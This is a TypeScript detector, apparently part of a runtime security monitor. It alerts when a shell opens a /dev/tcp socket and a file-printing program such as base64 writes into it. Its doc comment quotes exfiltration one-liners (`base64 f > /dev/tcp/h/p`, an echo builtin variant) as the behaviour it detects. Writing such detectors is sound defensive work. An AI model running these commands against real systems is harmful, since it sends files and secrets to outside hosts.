import { z } from "zod";
import type { Endpoint } from "../events/fact.ts";
import { BoundedMap } from "../operators/bounded.ts";
import { correlator } from "./detector.ts";
import { belowPackageManager } from "./knowledge/ancestry.ts";
import { commandLine } from "./knowledge/command.ts";
import { isShell } from "./knowledge/interpreters.ts";
import { filesRead, producesData } from "./knowledge/leaks.ts";
import { deed } from "./knowledge/local.ts";
import { basename } from "./knowledge/paths.ts";
import { allowedDestinations } from "./knowledge/shared-settings.ts";
import { sensitive } from "./knowledge/uploads.ts";

interface Opened {
  readonly at: number;
  readonly destination: Endpoint;
}

/**
 * A shell opened a network socket itself (`/dev/tcp`), and right after it a program that prints files was started: what
 * `base64 f > /dev/tcp/h/p`, typed at a prompt, looks like to the kernel.
 *
 * Blind spot: builtins that write to the socket (`echo "$(<f)"`) start no program; the connection alone is reverse-shell's.
 */
export const possibleDataLossSocket = correlator({
  alert: "possible-data-loss",
  on: ["socket.connected", "process.started"],
  settings: z.object({
    allowedDestinations,
  }),
  memory: () => new BoundedMap<number, Opened>(256),
  concerns: ({ kind }) => kind === "socket.connected",
  awaits: (_fact, sockets) => sockets.size > 0,
  step(fact, sockets, { allowedDestinations }) {
    const { process } = fact;
    if (!process) return undefined;
    if (fact.kind === "socket.connected") {
      if (isShell(basename(process.exe))) sockets.set(process.pid, { at: fact.at, destination: fact.destination });
      return undefined;
    }
    if (sockets.size === 0) return undefined;
    const opened = sockets.peek(process.pid) ?? sockets.peek(process.ppid);
    const [command] = commandLine(process).commands;
    if (!opened || fact.at - opened.at > 2000 || !command || !producesData(command) || belowPackageManager(process))
      return undefined;
    // Port 53 is mostly the shell's own look-up of a name.
    if (opened.destination.port === 53 && !filesRead(command).some(sensitive)) return undefined;
    const { ip, hostname } = opened.destination;
    if ([ip, hostname].some((name) => name !== undefined && allowedDestinations.includes(name))) return undefined;
    sockets.delete(process.ppid);
    return {
      subject: `shell socket to ${ip ?? hostname}`,
      reason: `${command.name} prints into a network socket that the shell opened to ${ip ?? hostname}`,
      evidence: {
        process,
        container: process.container,
        destination: opened.destination,
        data: { command: deed(command) },
      },
    };
  },
});
